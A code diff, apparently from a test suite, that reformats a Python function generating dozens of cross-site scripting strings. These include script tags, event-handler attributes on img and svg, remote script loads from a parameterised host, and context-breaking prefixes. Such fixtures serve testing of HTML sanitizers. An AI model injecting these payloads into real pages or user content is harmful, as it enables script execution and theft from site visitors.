@@ -9,12 +9,12 @@ def nasty_texts(at: str) -> list[str]:
     """At least fifty of them."""
     act = ACT.format(at=at)
     tags = [
-        f'<script>{act}</script>',
+        f"<script>{act}</script>",
         f'<script src="{at}x.js"></script>',
         f'<img src=x onerror="{act}">',
         f'<img src="{at}x.png">',
         f'<svg onload="{act}"></svg>',
-        f'<svg><script>{act}</script></svg>',
+        f"<svg><script>{act}</script></svg>",
         f'<svg><image href="{at}x.png"/></svg>',
         f'<svg><use href="{at}x.svg#a"/></svg>',
         f'<svg><animate onbegin="{act}" attributeName=x dur=1s></svg>',
@@ -42,7 +42,17 @@ def nasty_texts(at: str) -> list[str]:
         f'<script type=module>import "{at}m.js"</script>',
         f'<frameset onload="{act}"></frameset>',
     ]
-    leave = ["</pre>", "</textarea>", '">', "'>", "</title>", "</style>", "-->", "]]>", "</td></table>"]
+    leave = [
+        "</pre>",
+        "</textarea>",
+        '">',
+        "'>",
+        "</title>",
+        "</style>",
+        "-->",
+        "]]>",
+        "</td></table>",
+    ]
     broken = [end + tags[0] for end in leave] + [end + tags[2] for end in leave[:3]]
     words = [
         f"![x]({at}md.png)",
